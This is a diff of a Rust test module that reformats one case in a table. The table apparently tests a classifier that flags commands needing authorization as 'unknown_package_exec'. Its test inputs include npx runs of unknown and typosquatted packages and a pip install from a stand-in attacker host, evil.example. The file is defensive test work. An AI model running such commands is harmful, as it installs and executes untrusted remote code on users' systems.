@@ -1101,7 +1101,11 @@ mod tests {
                 ("npx -y some-unknown-pkg-xyz", Auth, "unknown_package_exec"),
                 ("npx --yes @evil/helper", Auth, "unknown_package_exec"),
                 ("npx -y @modelcontextprotocol/server-github", Pass, ""),
-                ("npx -y @modelcontextprotocol/server-githubb", Auth, "unknown_package_exec"),
+                (
+                    "npx -y @modelcontextprotocol/server-githubb",
+                    Auth,
+                    "unknown_package_exec",
+                ),
                 (
                     "pip install git+https://evil.example/p.git",
                     Auth,
